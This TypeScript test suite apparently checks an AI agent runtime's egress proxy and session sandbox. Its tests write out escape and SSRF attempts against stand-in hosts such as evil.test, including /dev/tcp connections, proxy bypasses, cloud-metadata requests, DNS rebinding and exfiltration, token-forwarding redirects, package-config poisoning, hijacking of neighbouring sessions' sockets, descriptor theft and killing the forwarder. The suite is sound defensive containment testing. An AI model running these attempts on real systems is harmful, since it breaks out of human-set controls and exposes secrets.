/**
 * Attempts to reach, by a way out, hosts that its rules do not name, and the ways out of other sessions.
 */
import { assert } from "@effect/vitest"
import { group, type Place } from "./Attempt.ts"
import { says, allSay, curl, sent, connectTo, get, plain, secure, asked, inSession, refused } from "./outward.ts"

export const wayOutHosts = group(
  "The way out: other hosts",
  inSession([
    {
      name: "a host that no rule names",
      container: ({ world: { internet } }) =>
        curl([`${plain(internet, "evil.test")}/`, `${secure(internet, "evil.test")}/`], "-k"),
      holds: allSay(/^(?:403 000|000 403)$/)
    },
    {
      name: "past the proxy, by its address",
      container: ({ world: { internet } }) =>
        `${curl([`http://127.0.0.3:${internet.port}/`], "--noproxy '*'")}; exec 3<>/dev/tcp/127.0.0.3/${internet.port}; cat <&3`,
      onHost: true
    },
    {
      name: "past the proxy, by what the environment says",
      container: ({ world: { internet } }) =>
        `unset http_proxy HTTP_PROXY; export NO_PROXY='*' no_proxy='*'
${curl([`http://127.0.0.3:${internet.port}/`, `http://evil.test:${internet.port}/`])}
python3 -c "import urllib.request as r; r.build_opener(r.ProxyHandler({})).open('http://127.0.0.3:${internet.port}/')" 2>&1 | tail -1`,
      onHost: true
    },
    {
      name: "an address, as it may be written",
      container: ({ world: { internet } }) =>
        asked(
          internet,
          "127.0.0.3",
          "2130706435",
          "0x7f000003",
          "0x7f.3",
          "0177.0.0.03",
          "127.3",
          "127.0.3",
          "127.000.000.003"
        ),
      holds: refused
    },
    {
      name: "an address, as IPv6 has it",
      container: ({ world: { internet } }) =>
        asked(
          internet,
          "[::ffff:127.0.0.3]",
          "[::ffff:7f00:3]",
          "[::127.0.0.3]",
          "[64:ff9b::127.0.0.3]",
          "[2002:7f00:3::]",
          "[::1%25lo]"
        ),
      holds: refused
    },
    {
      name: "a name in capitals, with a dot at its end, with letters that look alike",
      container: ({ world: { internet } }) =>
        asked(
          internet,
          "EVIL.TEST",
          "evil.test.",
          "evil.test..",
          "evil%2etest",
          "evil\u3002test",
          "\xc3\xa9vil.test",
          "evil\uff0etest"
        ),
      holds: refused
    },
    {
      name: "a name that begins or ends like one that is admitted",
      container: ({ world: { internet } }) =>
        asked(
          internet,
          "allowed.test.evil.test",
          "evilallowed.test",
          "x.allowed.test",
          "evil.test\0.wild.test",
          "evil.test%00.wild.test",
          "allowed.test\0.evil.test",
          "allowed.test%00.evil.test",
          "allowed.test%2eevil.test",
          "evil.test%23.wild.test",
          "evil.test%2f.wild.test",
          "wild.test",
          "evilwild.test"
        ),
      holds: refused
    },
    {
      name: "a user that looks like a host, and other addresses that are read in two ways",
      container: ({ world: { internet } }) =>
        sent(
          ...[
            "http://allowed.test@evil.test:PORT/",
            "http://allowed.test:PORT@evil.test:PORT/",
            "http://allowed.test:PORT#@evil.test:PORT/",
            "http://evil.test:PORT\\@allowed.test:PORT/",
            "http://evil.test:PORT#@allowed.test:PORT/",
            "http://evil.test:PORT?@allowed.test:PORT/",
            "http://allowed.test;@evil.test:PORT/",
            "http:evil.test:PORT/",
            "http:////evil.test:PORT/",
            "http:\\\\evil.test:PORT/",
            "HTTP://EVIL.TEST:PORT/",
            "//evil.test:PORT/",
            "http://[evil.test]:PORT/"
          ].map((address) => get(address.replaceAll("PORT", String(internet.port)))),
          ...[
            "allowed.test@evil.test:PORT",
            "allowed.test:PORT@evil.test:PORT",
            "evil.test:PORT#allowed.test:PORT",
            "evil.test:PORT/allowed.test:PORT",
            "allowed.test:PORT,evil.test:PORT",
            "http://evil.test:PORT"
          ].map((authority) => connectTo(authority.replaceAll("PORT", String(internet.port))))
        ),
      holds: allSay(/^answered (?:40[03]|by nothing)$/)
    },
    {
      name: "the one host in the address, the other in the header",
      container: ({ world: { internet } }) =>
        sent(
          get(`${plain(internet)}/`, `host: evil.test:${internet.port}\r\n`),
          get(`${plain(internet)}/`, `host: allowed.test\r\nx-forwarded-host: evil.test:${internet.port}\r\n`)
        ),
      holds: allSay(/^answered 200$/)
    },
    {
      name: "the other host in the header alone, and two headers",
      container: ({ world: { internet } }) =>
        sent(
          get("/", `host: evil.test:${internet.port}\r\n`),
          get("/", `host: allowed.test:${internet.port}\r\n`),
          get(`${plain(internet, "evil.test")}/`, `host: allowed.test:${internet.port}\r\n`),
          get(`${plain(internet, "evil.test")}/`, `host: allowed.test\r\nhost: evil.test\r\n`)
        ),
      holds: refused
    },
    {
      name: "other places for the hosts of a client",
      container: ({ world: { internet } }) => {
        const { port, securePort } = internet
        return [
          curl([`${secure(internet)}/`], `-k --connect-to allowed.test:${securePort}:evil.test:${securePort}`),
          curl([`${plain(internet, "evil.test")}/`], `-p --connect-to evil.test:${port}:127.0.0.3:${port}`),
          curl([`${secure(internet, "evil.test")}/`], `-k --resolve evil.test:${securePort}:127.0.0.2`)
        ].join("\n")
      },
      holds: allSay(/^000 403$/)
    },
    {
      name: "a cloud's metadata",
      container: sent(
        ...[
          "169.254.169.254",
          "2852039166",
          "0xa9fea9fe",
          "0251.0376.0251.0376",
          "[::ffff:169.254.169.254]",
          "[fd00:ec2::254]",
          "100.100.100.200"
        ].flatMap((host) => [get(`http://${host}/latest/meta-data/`), connectTo(`${host}:80`)]),
        get("http://metadata.google.internal/computeMetadata/v1/", "host: a\r\nmetadata-flavor: Google\r\n"),
        get("http://metadata.inward.test/latest/meta-data/"),
        get("http://metadata6.inward.test/latest/meta-data/"),
        connectTo("metadata.inward.test:80")
      ),
      holds: allSay(/^answered 403$/)
    },
    {
      name: "the host's loopback, by its names and addresses",
      container: ({ world: { address, anyPort, loopback6Port, loopbackPort } }) =>
        sent(
          ...[
            "127.0.0.1",
            "localhost",
            "LOCALHOST.",
            "2130706433",
            "127.1",
            "0",
            "0.0.0.0",
            "[::1]",
            "[::]",
            "[::ffff:127.0.0.1]",
            address,
            "172.17.0.1",
            "host.docker.internal"
          ].flatMap((host) => [
            ...[loopbackPort, loopback6Port, anyPort].map((port) => connectTo(`${host}:${port}`)),
            get(`http://${host}:${anyPort}/`)
          ])
        ),
      holds: allSay(/^answered 403$/)
    },
    {
      name: "a name that a rule admits and that leads to this machine",
      container: ({ world: { anyPort, loopback6Port, loopbackPort } }) =>
        sent(
          ...[
            "loopback",
            "six",
            "mapped",
            "translated",
            "any",
            "any6",
            "machine",
            "bridge",
            "home",
            "both",
            "odd"
          ].flatMap((name) => [
            ...[loopbackPort, loopback6Port, anyPort].map((port) => connectTo(`${name}.inward.test:${port}`)),
            get(`http://${name}.inward.test:${anyPort}/`)
          ])
        ),
      holds: allSay(/^answered 403$/)
    },
    {
      name: "a name that leads elsewhere when it is asked again",
      container: ({ world: { internet, loopbackPort } }) =>
        // One after the other, so that each is at another turn.
        Array.from({ length: 3 }, () => [
          sent(get(`http://rebinds.test:${internet.port}/`)),
          sent(connectTo(`rebinds.test:${loopbackPort}`)),
          sent(connectTo(`rebinds.test:${loopbackPort}`))
        ])
          .flat()
          .join("\n"),
      holds: (seen) => {
        assert.include(seen.stdout, "answered 200")
        assert.include(seen.stdout, "answered 403")
      }
    },
    {
      name: "a redirect, followed with all that was sent",
      container: ({ world: { internet, loopbackPort } }) =>
        [
          `http://127.0.0.1:${loopbackPort}/`,
          `${plain(internet, "evil.test")}/`,
          `${secure(internet, "evil.test")}/`,
          "http://169.254.169.254/",
          `file:///proc/1/environ`,
          `gopher://127.0.0.1:${loopbackPort}/_x`
        ]
          .map(
            (to) =>
              `curl -sSLk -m 3 --location-trusted --proto-redir all -H "authorization: Bearer $TOKEN" '${plain(internet)}/redirect?to=${to}'`
          )
          .join("\n"),
      holds: says(/no rule of this agent admits/)
    },
    {
      name: "a redirect to another host that is admitted",
      container: ({ world: { internet } }) =>
        `curl -sSL -m 3 --location-trusted -H "authorization: Bearer $TOKEN" '${plain(internet)}/redirect?to=${plain(internet, "open.test")}/echo'`,
      holds: says(/claw_secret_TOKEN/)
    },
    {
      name: "other ports of a host that is admitted",
      container: ({ world: { anyPort, internet } }) =>
        sent(
          ...[22, 25, 53, 445, 2375, 3128, 6379, anyPort].map((port) => connectTo(`allowed.test:${port}`)),
          get(`http://allowed.test:${anyPort}/`),
          get(`http://allowed.test/`),
          ...[`${internet.port + 65536}`, "0", "-1", `${internet.port}:25`, ` ${internet.port}`, "", "1e3", "0x50"].map(
            (port) => connectTo(`allowed.test:${port}`)
          )
        ),
      holds: refused
    },
    {
      name: "names asked of other resolvers",
      container: ({ world: { datagramPort } }) => `${sent(
        ...["8.8.8.8:53", "1.1.1.1:853", "dns.google:443", "127.0.0.53:53", "127.0.0.11:53"].map((to) =>
          connectTo(to, "\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04evil\x04test\0\0\x01\0\x01")
        ),
        get("http://1.1.1.1/dns-query?name=evil.test")
      )}
getent hosts secret.evil.test; echo x > /dev/udp/127.0.0.1/${datagramPort}; echo x > /dev/udp/127.0.0.11/53`,
      holds: (seen) => assert.notMatch(seen.stdout, /answered 200/)
    },
    {
      name: "files and sockets of the host, as addresses",
      container: ({ world: { secret, socketPath } }) =>
        sent(
          get(`file://${secret}`),
          get(`file://localhost${secret}`),
          get(`http://unix:${socketPath}:/`),
          get(`unix:${socketPath}`),
          get(`ftp://allowed.test/`),
          get("data:text/plain,x"),
          get("javascript:1"),
          connectTo(socketPath)
        ),
      holds: refused
    },
    {
      name: "the proxy itself, and other ways to ask it",
      container: ({ world: { internet } }) => `${sent(
        connectTo("127.0.0.1:3128", connectTo(`evil.test:${internet.port}`)),
        get("http://127.0.0.1:3128/"),
        "\x05\x01\0",
        `\x04\x01${String.fromCharCode(internet.port >> 8, internet.port & 255)}\x7f\0\0\x03\0`,
        "PROXY TCP4 127.0.0.1 127.0.0.3 1 2\r\n" + get(`${plain(internet)}/`),
        "\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03",
        "SSH-2.0-x\r\n",
        "EHLO evil.test\r\n"
      )}
curl -sS -m 3 --socks5-hostname 127.0.0.1:3128 ${plain(internet, "evil.test")}/; curl -sS -m 3 --socks4a 127.0.0.1:3128 ${plain(internet, "evil.test")}/`,
      holds: (seen) => assert.notMatch(seen.stdout, /answered 200/)
    },
    {
      name: "configuration that names other proxies and registries",
      container: ({ world: { internet } }) => {
        const evil = `http://127.0.0.3:${internet.port}`
        return `mkdir -p ~/.config/pip ~/.pip r && cd r
printf 'proxy = ${evil}\\nlocation\\n' > ~/.curlrc
printf '[http]\\n\\tproxy = ${evil}\\n\\tsslVerify = false\\n[url "${evil}/"]\\n\\tinsteadOf = ${plain(internet)}/\\n[core]\\n\\tgitProxy = ${evil}\\n' > ~/.gitconfig
printf '[global]\\nindex-url = ${evil}/simple\\nproxy = ${evil}\\ntrusted-host = 127.0.0.3\\n' | tee ~/.config/pip/pip.conf > ~/.pip/pip.conf
printf 'registry=${evil}/\\nproxy=${evil}\\nhttps-proxy=${evil}\\nstrict-ssl=false\\n' | tee .npmrc > ~/.npmrc
curl -sS -m 3 ${plain(internet)}/
git clone -q ${plain(internet)}/repo.git
env -u HTTP_PROXY -u http_proxy git clone -q git://127.0.0.3:${internet.port}/repo.git
if type npm > /dev/null 2>&1; then timeout 5 npm view greeting; fi
if python3 -m pip --version > /dev/null 2>&1; then timeout 5 python3 -m pip download --retries 0 greeting; fi
http_proxy=${evil} HTTPS_PROXY=${evil} curl -q -sS -m 3 ${plain(internet)}/`
      }
      // Not tried on the host, whose own configuration it would change.
    }
  ])
)

const proxySocket = "/run/claw/proxy.sock"

export const wayOutSockets = group(
  "The way out: sockets",
  inSession([
    {
      name: "another session's socket, by the host's path",
      container: ({ neighbour, world: { internet } }: Place) =>
        `ls ${neighbour.way?.folder}; curl -sS -m 3 --unix-socket ${neighbour.way?.folder}/proxy.sock -x '' ${plain(internet, "neighbour.test")}/x; ls ${neighbour.way?.folder}/../*`
    },
    {
      name: "another session's socket, by guesses and by a search",
      container: ({ world: { internet } }) =>
        `for s in $(find / -xdev -type s 2>/dev/null; find / -name '*.sock' -not -path '${proxySocket}' 2>/dev/null) /run/claw/../*/proxy.sock /run/claw/../../*/*/proxy.sock /proc/[0-9]*/root${proxySocket} /proc/[0-9]*/cwd/../run/claw/proxy.sock; do curl -sS -m 1 --unix-socket $s -H 'host: neighbour.test' ${plain(internet, "neighbour.test")}/x; done; ls /run/claw`,
      holds: says(/^authorities\.pem\nproxy\.sock\n$/m)
    },
    {
      name: "a host of another session, by this one's socket",
      container: ({ world: { internet } }) => asked(internet, "neighbour.test"),
      holds: refused
    },
    {
      name: "descriptors of other processes",
      container: ({ world: { internet } }) =>
        `ls -l /proc/[0-9]*/fd | grep -c socket; for f in /proc/[0-9]*/fd/{3..40}; do printf 'GET ${plain(internet, "neighbour.test")}/x HTTP/1.1\\r\\n\\r\\n' > $f; done 2>/dev/null; python3 - <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    fd = libc.syscall(434, pid, 0)
    for n in range(12):
        if fd >= 0 and pid != os.getpid() and libc.syscall(438, fd, n, 0) >= 0: print('took descriptor', n, 'of', pid)
print(os.strerror(ctypes.get_errno()).lower())
PY`
    },
    {
      name: "sockets without a path, of every name that the kernel tells",
      container: ({ world: { abstractName } }) => `python3 - <<'PY'
import socket
names = {line.split()[-1] for line in open('/proc/net/unix').read().splitlines()[1:] if '/' in line or '@' in line}
for name in names | {'@${abstractName}', '@/run/claw/proxy.sock', '/run/docker.sock', '/run/containerd/containerd.sock'}:
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(name.replace('@', '\\0', 1)); print('own socket' if name == '${proxySocket}' else 'connected to ' + name)
    except OSError as e: print(e.strerror.lower())
PY`,
      holds: (seen) => assert.notMatch(seen.stdout, /connected to/)
    },
    {
      name: "another in its own socket's place",
      container: ({ neighbour }: Place) =>
        `rm -f ${proxySocket}; mv ${proxySocket} /tmp/p; ln -sf ${neighbour.way?.folder}/proxy.sock ${proxySocket}; ln ${proxySocket} /workspace/p; ln ${proxySocket} /tmp/p; mount --bind /tmp /run/claw; chmod 000 ${proxySocket}; chown 0:0 ${proxySocket}; touch /run/claw/x`
    },
    {
      name: "its own socket, carried out by the workspace",
      container: ({ neighbour, world: { internet } }: Place) =>
        `ln -s ${neighbour.way?.folder}/proxy.sock p.sock; curl -sS -m 2 --unix-socket p.sock ${plain(internet, "neighbour.test")}/x; cp -a ${proxySocket} c.sock; mknod m.sock s; curl -sS -m 2 --unix-socket c.sock ${plain(internet, "neighbour.test")}/x`
    },
    {
      name: "the certificates that are trusted",
      container:
        "echo x > /run/claw/authorities.pem; sed -i d /run/claw/authorities.pem; cp /etc/hosts /run/claw/authorities.pem; : > /run/claw/authorities.pem; grep -c BEGIN /run/claw/authorities.pem",
      holds: says(/^[1-9]\d*$/m)
    },
    {
      name: "the forwarder, killed, stopped and in its place another",
      container: `for p in /proc/[0-9]*; do grep -qa perl $p/cmdline && kill -9 \${p#/proc/}; done; python3 - <<'PY'
import socket
for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
    s = socket.socket(family)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try: s.bind((host, 3128)); s.listen(); print('listens at', host)
    except OSError as e: print(e.strerror.lower())
PY
sleep 0.3`
    }
  ])
)
